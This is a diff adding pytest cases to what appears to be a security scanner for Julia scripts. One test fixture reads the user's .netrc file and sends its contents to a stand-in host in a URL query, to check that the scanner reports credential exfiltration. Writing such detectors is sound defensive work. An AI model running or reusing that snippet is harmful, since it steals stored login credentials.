@@ -118,3 +118,19 @@ def test_a_package_added_from_its_github_repository_stays_quiet(tmp_path: Path) 
     source = 'using Pkg\nPkg.add(url = "https://github.com/JuliaData/CSV.jl")\nPkg.add("DataFrames")\n'
     found = analyse_file(tmp_path, "scripts/deps.jl", source, Language.JULIA)
     assert [c for c in found if c.kind in (Kind.INSTALL_URL, Kind.INSTALL_INDEX)] == []
+
+
+def test_a_downloaded_tarball_unpacked_by_a_command_literal_is_not_run(tmp_path: Path) -> None:
+    source = (
+        'tarball = download("https://julialang-s3.julialang.org/bin/linux/x64/1.10/julia-1.10.0-linux-x86_64.tar.gz")\n'
+        "run(`tar -xzf $tarball -C deps`)\n"
+    )
+    assert Kind.EXEC_FETCHED not in kinds(tmp_path, source)
+
+
+def test_a_secret_interpolated_into_a_download_address_is_sent(tmp_path: Path) -> None:
+    source = (
+        'tok = read(joinpath(homedir(), ".netrc"), String)\nHTTP.get("https://beacon.example.invalid/b?x=$(tok)")\n'
+    )
+    errors = scan_errors(tmp_path, {"scripts/beacon.jl": source})
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/beacon.jl", 2) in errors
